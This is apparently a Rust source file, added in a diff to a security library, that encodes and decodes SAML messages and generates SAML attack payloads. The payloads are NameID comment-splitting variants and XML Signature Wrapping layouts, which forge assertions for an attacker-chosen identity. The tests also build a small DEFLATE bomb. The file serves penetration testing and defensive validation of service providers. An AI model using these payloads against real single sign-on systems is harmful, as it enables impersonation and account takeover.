@@ -0,0 +1,517 @@
+use crate::deflate::{deflate, inflate};
+use crate::transformations::dedup_preserving_order;
+use crate::transformations::encoding::{base64_encode_bytes, base64url_decode, percent_decode};
+use crate::transformations::xml::tag_end;
+
+/// Largest XML [`saml_decode`] inflates, so a tiny compressed value cannot
+/// expand into gigabytes.
+const MAX_INFLATED_LEN: usize = 4 * 1024 * 1024;
+
+/// Encodes a SAML message for the HTTP-Redirect binding.
+///
+/// Compresses `xml` with raw DEFLATE and Base64-encodes the result, the form
+/// carried in the `SAMLRequest`/`SAMLResponse` query parameter (URL-encode it
+/// before putting it on a URL). [`saml_decode`] reverses it.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Re-encode tampered assertions for replay through the browser
+/// - **Blue Team**: Build SSO fixtures for parser and signature-validation tests
+///
+/// # Examples
+///
+/// ```
+/// use redstr::{saml_decode, saml_encode};
+///
+/// let xml = r#"<samlp:AuthnRequest ID="_1"/>"#;
+/// assert_eq!(saml_decode(&saml_encode(xml)).unwrap(), xml);
+/// ```
+pub fn saml_encode(xml: &str) -> String {
+    base64_encode_bytes(&deflate(xml.as_bytes()))
+}
+
+/// Decodes a captured `SAMLRequest` or `SAMLResponse` parameter to XML.
+///
+/// Accepts both bindings: Base64 of raw XML (HTTP-POST) and Base64 of
+/// DEFLATE-compressed XML (HTTP-Redirect). Percent-encoding and whitespace
+/// from copy-pasted query strings are tolerated. Returns `None` if the
+/// value is not valid Base64, does not inflate, inflates past 4 MiB, or is
+/// not UTF-8.
+///
+/// # Examples
+///
+/// ```
+/// use redstr::saml_decode;
+///
+/// // HTTP-POST binding: plain Base64
+/// assert_eq!(saml_decode("PFJlc3BvbnNlLz4=").unwrap(), "<Response/>");
+/// assert!(saml_decode("not base64!").is_none());
+/// ```
+pub fn saml_decode(encoded: &str) -> Option<String> {
+    let cleaned: String = String::from_utf8(percent_decode(encoded))
+        .ok()?
+        .chars()
+        .filter(|c| !c.is_whitespace())
+        .collect();
+    let bytes = base64url_decode(&cleaned)?;
+
+    let plain = bytes
+        .iter()
+        .find(|b| !b.is_ascii_whitespace())
+        .is_some_and(|&b| b == b'<');
+    let xml = if plain {
+        bytes
+    } else {
+        inflate(&bytes, MAX_INFLATED_LEN)?
+    };
+    String::from_utf8(xml).ok()
+}
+
+/// Byte offsets of one element located by [`find_element`].
+struct Element {
+    /// Qualified tag name, e.g. `saml:Assertion`.
+    name: String,
+    start: usize,
+    /// One past the `>` of the start tag.
+    content_start: usize,
+    /// Start of the end tag (equal to `content_start` when self-closing).
+    content_end: usize,
+    end: usize,
+}
+
+impl Element {
+    /// Namespace prefix including the colon, or `""` when unprefixed.
+    fn prefix(&self) -> &str {
+        match self.name.rfind(':') {
+            Some(colon) => &self.name[..=colon],
+            None => "",
+        }
+    }
+}
+
+/// Finds the first element named `local` (any namespace prefix) at or
+/// after `from`, matching nested same-name elements to the right end tag.
+///
+/// A string scan, not a parser: enough for well-formed SAML, where it
+/// saves pulling in an XML dependency.
+fn find_element(xml: &str, local: &str, from: usize) -> Option<Element> {
+    let is_name_end = |c: char| c.is_whitespace() || c == '>' || c == '/';
+    let mut search = from;
+    while let Some(offset) = xml[search..].find('<') {
+        let start = search + offset;
+        search = start + 1;
+        let rest = &xml[start + 1..];
+        let name = &rest[..rest.find(is_name_end).unwrap_or(rest.len())];
+        if name.is_empty() || name.rsplit(':').next() != Some(local) {
+            continue;
+        }
+
+        let content_start = tag_end(xml, start)?;
+        let mut element = Element {
+            name: name.to_string(),
+            start,
+            content_start,
+            content_end: content_start,
+            end: content_start,
+        };
+        if xml[..content_start].ends_with("/>") {
+            return Some(element);
+        }
+
+        let open = format!("<{}", name);
+        let close = format!("</{}>", name);
+        let mut depth = 1;
+        let mut pos = content_start;
+        loop {
+            let next_close = pos + xml[pos..].find(&close)?;
+            let mut scan = pos;
+            while let Some(o) = xml[scan..next_close].find(&open) {
+                let at = scan + o;
+                scan = at + open.len();
+                let boundary = xml[scan..].starts_with(is_name_end);
+                let self_closing = tag_end(xml, at).is_some_and(|end| xml[..end].ends_with("/>"));
+                if boundary && !self_closing {
+                    depth += 1;
+                }
+            }
+            depth -= 1;
+            pos = next_close + close.len();
+            if depth == 0 {
+                element.content_end = next_close;
+                element.end = pos;
+                return Some(element);
+            }
+        }
+    }
+    None
+}
+
+/// Escapes text for use as XML character data.
+fn xml_escape(text: &str) -> String {
+    text.replace('&', "&amp;")
+        .replace('<', "&lt;")
+        .replace('>', "&gt;")
+}
+
+/// Generates NameID values split by an XML comment (CVE-2017-11427 family).
+///
+/// Exclusive canonicalization drops comments, so the signature still
+/// verifies, while vulnerable SAML libraries read only the text before the
+/// comment. An attacker registered as `admin@corp.com.evil.com` becomes
+/// `admin@corp.com<!---->.evil.com`. One variant is produced per `.` and
+/// `@` boundary in the first NameID, plus one with the comment at the end.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Authenticate as another user with a validly signed assertion
+/// - **Blue Team**: Confirm the SP reads the full NameID text, not the first node
+///
+/// # Examples
+///
+/// ```
+/// use redstr::saml_nameid_comment;
+///
+/// let xml = "<saml:NameID>admin@corp.com.evil.com</saml:NameID>";
+/// let variants = saml_nameid_comment(xml);
+/// assert!(variants.contains(&"<saml:NameID>admin@corp.com<!---->.evil.com</saml:NameID>".to_string()));
+/// ```
+pub fn saml_nameid_comment(xml: &str) -> Vec<String> {
+    let Some(name_id) = find_element(xml, "NameID", 0) else {
+        return Vec::new();
+    };
+    let text = &xml[name_id.content_start..name_id.content_end];
+    let splits = text
+        .char_indices()
+        .filter(|&(i, c)| i > 0 && (c == '.' || c == '@'))
+        .map(|(i, _)| i)
+        .chain(std::iter::once(text.len()));
+
+    dedup_preserving_order(splits.map(|at| {
+        format!(
+            "{}{}<!---->{}{}",
+            &xml[..name_id.content_start],
+            &text[..at],
+            &text[at..],
+            &xml[name_id.content_end..]
+        )
+    }))
+}
+
+/// One XML Signature Wrapping layout produced by [`saml_signature_wrapping`].
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct XswVariant {
+    /// Short label for the layout, e.g. `"XSW3: evil assertion before signed"`.
+    pub technique: &'static str,
+    /// The rewritten SAML response.
+    pub xml: String,
+}
+
+/// Replaces the content of the first `local` element in `xml`.
+fn replace_content(xml: &str, local: &str, content: &str) -> String {
+    match find_element(xml, local, 0) {
+        Some(e) => format!(
+            "{}{}{}",
+            &xml[..e.content_start],
+            content,
+            &xml[e.content_end..]
+        ),
+        None => xml.to_string(),
+    }
+}
+
+/// Removes the first `local` element from `xml`.
+fn remove_element(xml: &str, local: &str) -> String {
+    match find_element(xml, local, 0) {
+        Some(e) => format!("{}{}", &xml[..e.start], &xml[e.end..]),
+        None => xml.to_string(),
+    }
+}
+
+/// Inserts `child` as the last child of the first `local` element in `xml`.
+fn append_child(xml: &str, local: &str, child: &str) -> String {
+    match find_element(xml, local, 0) {
+        Some(e) => format!(
+            "{}{}{}",
+            &xml[..e.content_end],
+            child,
+            &xml[e.content_end..]
+        ),
+        None => xml.to_string(),
+    }
+}
+
+/// Sets the `ID` attribute on the root element of `xml`.
+fn set_root_id(xml: &str, id: &str) -> String {
+    let Some(start_end) = tag_end(xml, 0) else {
+        return xml.to_string();
+    };
+    let start_tag = &xml[..start_end];
+    for quote in ['"', '\''] {
+        let needle = format!(" ID={}", quote);
+        if let Some(at) = start_tag.find(&needle) {
+            let value_start = at + needle.len();
+            if let Some(len) = start_tag[value_start..].find(quote) {
+                return format!("{}{}{}", &xml[..value_start], id, &xml[value_start + len..]);
+            }
+        }
+    }
+    let insert_at = start_end - if start_tag.ends_with("/>") { 2 } else { 1 };
+    format!("{} ID=\"{}\"{}", &xml[..insert_at], id, &xml[insert_at..])
+}
+
+/// Generates XML Signature Wrapping skeletons for a signed SAML response.
+///
+/// Takes a response containing a signed `Assertion` and produces the
+/// assertion-level XSW3–XSW8 layouts popularized by SAML Raider. In each,
+/// the evil assertion carries `attacker_name_id` and the ID
+/// `_evil-assertion`, while the original signed content is moved somewhere
+/// a naive verifier still finds it. Returns an empty list when there is no
+/// assertion or it has no `Signature`.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Starting points for XSW attacks against a service provider
+/// - **Blue Team**: Verify the SP consumes exactly the element the signature covers
+///
+/// # Examples
+///
+/// ```
+/// use redstr::saml_signature_wrapping;
+///
+/// let response = concat!(
+///     r#"<samlp:Response ID="_r"><saml:Assertion ID="_a">"#,
+///     r#"<ds:Signature><ds:SignedInfo/></ds:Signature>"#,
+///     r#"<saml:Subject><saml:NameID>user@corp.com</saml:NameID></saml:Subject>"#,
+///     r#"</saml:Assertion></samlp:Response>"#,
+/// );
+/// let variants = saml_signature_wrapping(response, "admin@corp.com");
+/// assert_eq!(variants.len(), 6);
+/// assert!(variants.iter().all(|v| v.xml.contains("admin@corp.com")));
+/// ```
+pub fn saml_signature_wrapping(response: &str, attacker_name_id: &str) -> Vec<XswVariant> {
+    const EVIL_ID: &str = "_evil-assertion";
+
+    let Some(assertion) = find_element(response, "Assertion", 0) else {
+        return Vec::new();
+    };
+    let original = &response[assertion.start..assertion.end];
+    let Some(signature) = find_element(original, "Signature", 0) else {
+        return Vec::new();
+    };
+    let before = &response[..assertion.start];
+    let after = &response[assertion.end..];
+    let response_prefix = find_element(response, "Response", 0)
+        .map(|e| e.prefix().to_string())
+        .unwrap_or_default();
+    let ds = signature.prefix();
+
+    let tampered = replace_content(original, "NameID", &xml_escape(attacker_name_id));
+    let evil = set_root_id(&remove_element(&tampered, "Signature"), EVIL_ID);
+    let evil_signed = set_root_id(&tampered, EVIL_ID);
+    let original_unsigned = remove_element(original, "Signature");
+
+    let wrap = |inner: String| format!("{}{}{}", before, inner, after);
+    vec![
+        XswVariant {
+            technique: "XSW3: evil assertion before signed",
+            xml: wrap(format!("{}{}", evil, original)),
+        },
+        XswVariant {
+            technique: "XSW4: signed assertion inside evil",
+            xml: wrap(append_child(&evil, "Assertion", original)),
+        },
+        XswVariant {
+            technique: "XSW5: evil assertion keeps signature, copy after",
+            xml: wrap(format!("{}{}", evil_signed, original_unsigned)),
+        },
+        XswVariant {
+            technique: "XSW6: copy inside evil assertion's signature",
+            xml: wrap(append_child(&evil_signed, "Signature", &original_unsigned)),
+        },
+        XswVariant {
+            technique: "XSW7: signed assertion in Extensions",
+            xml: wrap(format!(
+                "<{p}Extensions>{}</{p}Extensions>{}",
+                original,
+                evil,
+                p = response_prefix
+            )),
+        },
+        XswVariant {
+            technique: "XSW8: copy in Signature Object",
+            xml: wrap(append_child(
+                &evil_signed,
+                "Signature",
+                &format!("<{p}Object>{}</{p}Object>", original_unsigned, p = ds),
+            )),
+        },
+    ]
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const RESPONSE: &str = concat!(
+        r#"<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_r">"#,
+        r#"<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_a">"#,
+        r#"<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#">"#,
+        r##"<ds:SignedInfo><ds:Reference URI="#_a"/></ds:SignedInfo></ds:Signature>"##,
+        r#"<saml:Subject><saml:NameID>user@corp.com</saml:NameID></saml:Subject>"#,
+        r#"</saml:Assertion></samlp:Response>"#,
+    );
+
+    #[test]
+    fn test_saml_encode_roundtrip() {
+        let encoded = saml_encode(RESPONSE);
+        assert!(!encoded.contains('<'));
+        assert_eq!(saml_decode(&encoded).unwrap(), RESPONSE);
+    }
+
+    #[test]
+    fn test_saml_decode_zlib_redirect_binding() {
+        // Produced by zlib (dynamic Huffman block), as an IdP would send it
+        let encoded = "VY5BCsIwEEWvUnKAVlwOabDQTUFd6AFkDLMoZGZCJoUe3ypd1OV7nwffG3LK8CDLKkbNykkMfrJ3SxFQtNlAkMmgRngOtyuc2xPkolWjJtdMY+9e+I4u+G8HgxmVOqvsfN/aaQzLZi+0IudEbVT23XHd6dB2/8/CBw==";
+        let xml = saml_decode(encoded).unwrap();
+        assert!(xml.starts_with("<samlp:Response"));
+        assert!(xml.contains("<saml:NameID>user@example.com</saml:NameID>"));
+    }
+
+    #[test]
+    fn test_saml_decode_post_binding_and_url_encoding() {
+        assert_eq!(saml_decode("PFJlc3BvbnNlLz4%3D").unwrap(), "<Response/>");
+        assert_eq!(saml_decode("PFJlc3Bv\nbnNlLz4=").unwrap(), "<Response/>");
+        let encoded = saml_encode(RESPONSE)
+            .replace('+', "%2B")
+            .replace('/', "%2F");
+        assert_eq!(saml_decode(&encoded).unwrap(), RESPONSE);
+    }
+
+    /// Raw DEFLATE of one `A` followed by `copies` 258-byte back-references to it.
+    fn deflate_bomb(copies: usize) -> Vec<u8> {
+        let mut bits = vec![true, true, false]; // BFINAL, BTYPE = fixed Huffman
+        let mut code =
+            |value: u32, len: u32| bits.extend((0..len).rev().map(|i| value >> i & 1 == 1));
+        code(0x30 + u32::from(b'A'), 8);
+        for _ in 0..copies {
+            code(0xc5, 8); // length 258
+            code(0, 5); // distance 1
+        }
+        code(0, 7); // end of block
+        bits.chunks(8)
+            .map(|byte| byte.iter().rev().fold(0, |acc, &bit| acc << 1 | bit as u8))
+            .collect()
+    }
+
+    #[test]
+    fn test_saml_decode_caps_inflated_size() {
+        let small = base64_encode_bytes(&deflate_bomb(4));
+        assert_eq!(saml_decode(&small).unwrap(), "A".repeat(1 + 4 * 258));
+
+        let bomb = deflate_bomb(MAX_INFLATED_LEN / 258 + 1);
+        assert!(bomb.len() < 32 * 1024);
+        assert!(saml_decode(&base64_encode_bytes(&bomb)).is_none());
+    }
+
+    #[test]
+    fn test_saml_decode_invalid() {
+        assert!(saml_decode("!!!").is_none());
+        assert!(saml_decode("AAAA").is_none());
+    }
+
+    #[test]
+    fn test_saml_nameid_comment_splits_at_boundaries() {
+        let xml = "<saml:NameID>admin@corp.com.evil.com</saml:NameID>";
+        let variants = saml_nameid_comment(xml);
+        assert_eq!(
+            variants,
+            vec![
+                "<saml:NameID>admin<!---->@corp.com.evil.com</saml:NameID>",
+                "<saml:NameID>admin@corp<!---->.com.evil.com</saml:NameID>",
+                "<saml:NameID>admin@corp.com<!---->.evil.com</saml:NameID>",
+                "<saml:NameID>admin@corp.com.evil<!---->.com</saml:NameID>",
+                "<saml:NameID>admin@corp.com.evil.com<!----></saml:NameID>",
+            ]
+        );
+    }
+
+    #[test]
+    fn test_saml_nameid_comment_keeps_surrounding_xml() {
+        let variants = saml_nameid_comment(RESPONSE);
+        assert!(!variants.is_empty());
+        for variant in &variants {
+            assert!(variant.starts_with("<samlp:Response"));
+            assert!(variant.ends_with("</samlp:Response>"));
+            assert_eq!(variant.replace("<!---->", ""), RESPONSE);
+        }
+    }
+
+    #[test]
+    fn test_saml_nameid_comment_without_nameid() {
+        assert!(saml_nameid_comment("<Response/>").is_empty());
+    }
+
+    #[test]
+    fn test_find_element_handles_nesting_and_prefixes() {
+        let xml = r#"<a:X id=">"><X/><b:X>in</b:X><X>deep</X></a:X><X>next</X>"#;
+        let outer = find_element(xml, "X", 0).unwrap();
+        assert_eq!(outer.name, "a:X");
+        assert_eq!(
+            &xml[outer.start..outer.end],
+            r#"<a:X id=">"><X/><b:X>in</b:X><X>deep</X></a:X>"#
+        );
+        let next = find_element(xml, "X", outer.end).unwrap();
+        assert_eq!(&xml[next.content_start..next.content_end], "next");
+    }
+
+    #[test]
+    fn test_saml_signature_wrapping_layouts() {
+        let variants = saml_signature_wrapping(RESPONSE, "admin@corp.com");
+        let techniques: Vec<&str> = variants.iter().map(|v| &v.technique[..4]).collect();
+        assert_eq!(techniques, ["XSW3", "XSW4", "XSW5", "XSW6", "XSW7", "XSW8"]);
+        for variant in &variants {
+            assert!(variant.xml.starts_with("<samlp:Response"));
+            assert!(variant.xml.ends_with("</samlp:Response>"));
+            assert!(variant.xml.contains(r#"ID="_evil-assertion""#));
+            assert!(variant
+                .xml
+                .contains("<saml:NameID>admin@corp.com</saml:NameID>"));
+            // The original signed content is always still present
+            assert!(variant
+                .xml
+                .contains("<saml:NameID>user@corp.com</saml:NameID>"));
+            assert_eq!(variant.xml.matches("<saml:Assertion").count(), 2);
+        }
+    }
+
+    #[test]
+    fn test_saml_signature_wrapping_placement() {
+        let variants = saml_signature_wrapping(RESPONSE, "admin@corp.com");
+        let evil_at = |xml: &str| xml.find("_evil-assertion").unwrap();
+        let original_at = |xml: &str| xml.find(r#"ID="_a""#).unwrap();
+
+        // XSW3: evil first; XSW4: original nested inside evil
+        assert!(evil_at(&variants[0].xml) < original_at(&variants[0].xml));
+        assert!(variants[1].xml.contains("</saml:Subject><saml:Assertion"));
+        // XSW7 wraps the signed original in samlp:Extensions
+        assert!(variants[4]
+            .xml
+            .contains("<samlp:Extensions><saml:Assertion"));
+        // XSW8 wraps the unsigned copy in ds:Object inside the signature
+        assert!(variants[5].xml.contains("<ds:Object><saml:Assertion"));
+        assert_eq!(variants[5].xml.matches("<ds:Signature").count(), 1);
+    }
+
+    #[test]
+    fn test_saml_signature_wrapping_escapes_identity() {
+        let variants = saml_signature_wrapping(RESPONSE, "a<b>&c");
+        assert!(variants[0].xml.contains("a&lt;b&gt;&amp;c"));
+    }
+
+    #[test]
+    fn test_saml_signature_wrapping_requires_signed_assertion() {
+        assert!(saml_signature_wrapping("<Response/>", "x").is_empty());
+        let unsigned = "<Response><Assertion ID=\"_a\"><NameID>u</NameID></Assertion></Response>";
+        assert!(saml_signature_wrapping(unsigned, "x").is_empty());
+    }
+}